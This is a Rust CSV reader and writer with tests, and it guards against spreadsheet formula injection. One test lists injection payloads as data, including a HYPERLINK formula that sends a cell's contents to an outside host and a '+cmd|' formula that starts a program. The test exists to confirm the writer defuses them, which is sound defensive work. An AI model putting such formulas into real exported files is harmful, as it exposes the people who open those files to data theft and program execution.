//! Reads CSV (RFC 4180) with positions, which the common libraries do not give, and writes it. Commas, semicolons and tabs separate cells:
//! spreadsheets choose by the settings of the system.

use super::{Cell, Sheet};
use crate::base::diagnostic::{Checked, Diagnostic, FilePath, Place, Position};
use crate::msg;
use std::iter::Peekable;
use std::str::Chars;

const SEPARATORS: [char; 3] = [',', ';', '\t'];

/// Reads a table. Its first row is the header.
pub(crate) fn read_csv(file: &FilePath, text: &str) -> Checked<Sheet> {
    let text = text.strip_prefix('\u{FEFF}').unwrap_or(text);
    let mut reader = CsvReader { letters: text.chars().peekable(), position: Position::START, separator: separator(text) };
    let mut problems = Vec::new();
    let mut table = Sheet::default();
    while reader.letters.peek().is_some() {
        let start = reader.position;
        let mut row = match reader.row() {
            Ok(row) => row,
            Err((position, message)) => {
                problems.push(Diagnostic::error(Place::new(file, position), message).hint(msg!("hint-csv-quote")));
                break;
            }
        };
        if row.iter().all(|cell| cell.text.is_empty()) {
            continue;
        }
        // Spreadsheets end rows with empty cells of columns that others use.
        let columns = if table.header.is_empty() { 1 } else { table.header.len() };
        while row.len() > columns && row.last().is_some_and(|cell| cell.text.is_empty()) {
            row.pop();
        }
        // Above the header, people write a title.
        if table.header.is_empty() || table.header.len() == 1 && row.len() > 1 {
            table = Sheet { header: row, rows: Vec::new() };
        } else if row.len() == table.header.len() {
            table.rows.push(row);
        } else {
            let at = row.get(table.header.len()).map_or(start, |cell| cell.position);
            let message = msg!("csv-cells", cells = row.len(), columns = table.header.len());
            problems.push(Diagnostic::error(Place::new(file, at), message).hint(msg!("hint-csv-cells")));
        }
    }
    Checked { value: table, problems }
}

/// The separator that is most frequent in the header, outside of quotes: in the first line with several cells.
pub(crate) fn separator(text: &str) -> char {
    let most_frequent = |line: &str| {
        let unquoted: String = line.split('"').step_by(2).collect();
        // The first of equals: a table with one column has commas.
        SEPARATORS.into_iter().rev().map(|separator| (unquoted.matches(separator).count(), separator)).max_by_key(|(count, _)| *count)
    };
    let mut found = text.lines().filter_map(most_frequent);
    let is_header = |(count, _): &(usize, char)| *count > 1;
    found.find(is_header).or_else(|| text.lines().find_map(most_frequent)).map_or(',', |(_, separator)| separator)
}

struct CsvReader<'a> {
    letters: Peekable<Chars<'a>>,
    position: Position,
    separator: char,
}

type Failure = (Position, crate::base::message::Message);

impl CsvReader<'_> {
    fn next(&mut self) -> Option<char> {
        let letter = self.letters.next()?;
        if letter == '\n' {
            self.position = Position { line: self.position.line + 1, column: 1 };
        } else {
            self.position.column += 1;
        }
        Some(letter)
    }

    /// The cells up to the end of the line.
    fn row(&mut self) -> Result<Vec<Cell>, Failure> {
        let mut row = Vec::new();
        loop {
            row.push(self.cell()?);
            match self.next() {
                Some(letter) if letter == self.separator => {}
                Some('\r') if self.letters.peek() == Some(&'\n') => {
                    self.next();
                    return Ok(row);
                }
                _ => return Ok(row),
            }
        }
    }

    /// A cell up to the separator or the end of the line.
    fn cell(&mut self) -> Result<Cell, Failure> {
        let position = self.position;
        if self.letters.peek() == Some(&'"') {
            self.next();
            let text = self.quoted(position)?;
            return match self.letters.peek() {
                Some(letter) if !['\r', '\n', self.separator].contains(letter) => Err((self.position, msg!("csv-after-quote"))),
                _ => Ok(Cell { text: as_meant(&text), position }),
            };
        }
        let mut text = String::new();
        while let Some(letter) = self.letters.peek().copied().filter(|letter| !['\r', '\n', self.separator].contains(letter)) {
            text.push(letter);
            self.next();
        }
        Ok(Cell { text: as_meant(&text), position })
    }

    /// The rest of a quoted cell. Two quotation marks are one.
    fn quoted(&mut self, start: Position) -> Result<String, Failure> {
        let mut text = String::new();
        loop {
            match self.next() {
                None => return Err((start, msg!("csv-open-quote"))),
                Some('"') if self.letters.peek() == Some(&'"') => {
                    self.next();
                    text.push('"');
                }
                Some('"') => return Ok(text),
                Some('\r') if self.letters.peek() == Some(&'\n') => {}
                Some(letter) => text.push(letter),
            }
        }
    }
}

/// A cell without blanks around it, and without the apostrophe before what a spreadsheet would take for a formula.
fn as_meant(text: &str) -> String {
    let text = text.trim();
    text.strip_prefix(APOSTROPHE).filter(|text| is_formula(text)).unwrap_or(text).to_owned()
}

/// Tells a spreadsheet that a cell is a text.
const APOSTROPHE: char = '\'';

/// Whether a spreadsheet would compute a cell when it opens the file: a formula can send other cells to a server, or start a program.
/// A phone number with a plus sign is none: it calls no function (`+NAME(`) and no program (`+name|`).
fn is_formula(cell: &str) -> bool {
    match cell.chars().next() {
        Some('=' | '@' | '＝' | '＠') => true,
        Some('+' | '-' | '＋' | '－') => {
            cell.contains('|') || cell.match_indices('(').any(|(at, _)| cell[..at].ends_with(char::is_alphabetic))
        }
        _ => false,
    }
}

/// Writes rows as CSV with commas.
pub(crate) fn write_csv(rows: &[Vec<String>]) -> String {
    let mut text = String::new();
    for row in rows {
        for (at, cell) in row.iter().enumerate() {
            if at > 0 {
                text.push(',');
            }
            let mark = if is_formula(cell) { "'" } else { "" };
            if cell.contains([',', ';', '\t', '"', '\n', '\r']) {
                text.extend(["\"", mark, &cell.replace('"', "\"\""), "\""]);
            } else {
                text.extend([mark, cell]);
            }
        }
        text.push('\n');
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cells(text: &str) -> Vec<Vec<String>> {
        let read = read_csv(&FilePath::from("places.csv"), text);
        assert!(read.problems.is_empty(), "{:?}", read.problems);
        let rows = std::iter::once(read.value.header).chain(read.value.rows);
        rows.map(|row| row.into_iter().map(|cell| cell.text).collect()).collect()
    }

    #[test]
    fn separators_quotes_and_line_ends() {
        let expected = [["a", "b"], ["1, 2", "x \"y\"\nz"]];
        assert_eq!(cells("a,b\n\"1, 2\",\"x \"\"y\"\"\nz\"\n"), expected);
        assert_eq!(cells("\u{feff}a;b\r\n1, 2;\"x \"\"y\"\"\r\nz\"\r\n\r\n;\r\n"), expected);
        // A title in the first line, and empty cells at the end of rows.
        assert_eq!(cells("Offices, 2026\n\na;b;c\n1;2;3;;\n;;4\n")[0], ["a", "b", "c"]);
        assert_eq!(cells("Offices;;\na;b;\n1, 2;\"x \"\"y\"\"\nz\";\n"), expected);
        assert_eq!(cells("a\tb\n 1, 2 \t\"x \"\"y\"\"\nz\""), expected);
    }

    #[test]
    fn what_is_written_is_read_again() {
        let rows = [["a", "b;c"], ["1, 2", "x \"y\"\nz"], ["", "d"]].map(|row| row.map(str::to_owned).to_vec());
        let text = write_csv(&rows);
        assert_eq!(text, "a,\"b;c\"\n\"1, 2\",\"x \"\"y\"\"\nz\"\n,d\n");
        assert_eq!(cells(&text), rows);
    }

    #[test]
    fn a_spreadsheet_computes_nothing_in_what_is_written() {
        for formula in ["=1+1", "=HYPERLINK(\"http://a.kz/?x=\"&A1)", "@SUM(A1)", "+cmd|'/C calc'!A1", "-2+ГИПЕРССЫЛКА(A1;B1)", "＝A1"]
        {
            let rows = [vec![formula.to_owned()], vec!["'quoted'".to_owned()]];
            let text = write_csv(&rows);
            assert!(text.starts_with(['\'']) || text.starts_with("\"'"), "{text}");
            assert_eq!(cells(&text), rows);
        }
        for phone in ["+7 (7172) 74-97-20", "+77172749720", "-", "- 5", "+7 7212 34-70-42 (кезекші)"] {
            assert_eq!(write_csv(&[vec![phone.to_owned()]]), format!("{phone}\n"));
        }
    }

    #[test]
    fn problems_have_positions() {
        let told = |text: &str| -> Vec<String> {
            read_csv(&FilePath::from("places.csv"), text).problems.iter().map(Diagnostic::summary).collect()
        };
        assert_eq!(told("a,b\n1\n1,2,3\n"), ["2:1 the row has 1 of 2 cells", "3:5 the row has 3 of 2 cells"]);
        assert_eq!(told("a,b\n1,\"2\n"), ["2:3 the quotation mark of this cell is not closed"]);
        assert_eq!(told("a,b\n1,\"2\" 3\n"), ["2:6 text follows the closing quotation mark"]);
    }
}
